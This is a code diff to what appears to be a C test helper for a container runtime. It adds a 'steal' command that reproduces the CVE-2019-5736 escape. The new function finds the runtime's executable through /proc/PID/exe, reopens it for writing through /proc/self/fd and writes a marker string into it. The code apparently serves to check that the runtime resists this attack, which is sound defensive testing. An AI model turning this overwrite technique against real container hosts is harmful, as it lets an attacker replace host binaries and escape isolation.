@@ -13,6 +13,7 @@
  *   attack COUNT FOLDER      tries to get into each process of the pid namespace that is not there from the start
  *   stop                     stops each process that enters the container before it executes its program
  *   join PID hidden|open     joins the user and pid namespace of PID as exec does, waits 200 ms, ends
+ *   steal SECONDS            waits for a process whose program is not ours and writes to that program: "wrote" or "no"
  *   linger                   sleeps, closing nothing
  *   owner PATH               the user who made the user namespace of that file, as an id of ours
  *   clocks                   CLOCK_BOOTTIME and CLOCK_MONOTONIC in seconds
@@ -269,6 +270,37 @@ static int join(const char *target, int is_hidden)
         return waitpid(pid, NULL, 0) < 0;
 }
 
+/* CVE-2019-5736: holds the program of whoever comes by, and writes to it as soon as it runs no more. */
+static int steal(long seconds)
+{
+        time_t end = time(NULL) + seconds;
+        int fd = -1, out;
+        char path[64], name[256];
+
+        while (time(NULL) < end) {
+                for (int pid = 1; fd < 0 && pid < 400; pid++) {
+                        ssize_t n;
+
+                        snprintf(path, sizeof path, "/proc/%d/exe", pid);
+                        n = readlink(path, name, sizeof name - 1);
+                        if (n <= 0)
+                                continue;
+                        name[n] = '\0';
+                        if (strstr(name, "runb") != NULL)
+                                fd = open(path, O_PATH);
+                }
+                if (fd < 0)
+                        continue;
+                snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+                out = open(path, O_WRONLY);
+                if (out >= 0 && write(out, "stolen", 6) == 6)
+                        return puts("wrote") < 0;
+                if (out >= 0)
+                        close(out);
+        }
+        return puts(fd < 0 ? "no: it never came" : "no") < 0;
+}
+
 static int print_owner(const char *path)
 {
         int fd = open(path, O_RDONLY | O_CLOEXEC);
@@ -310,6 +342,8 @@ int main(int argc, char **argv)
                 return printf("%u\n", geteuid()) < 0;
         if (strcmp(verb, "owner") == 0)
                 return print_owner(first);
+        if (strcmp(verb, "steal") == 0)
+                return steal(atol(first));
         if (strcmp(verb, "linger") == 0)
                 return pause();
         if (strcmp(verb, "clocks") == 0) {
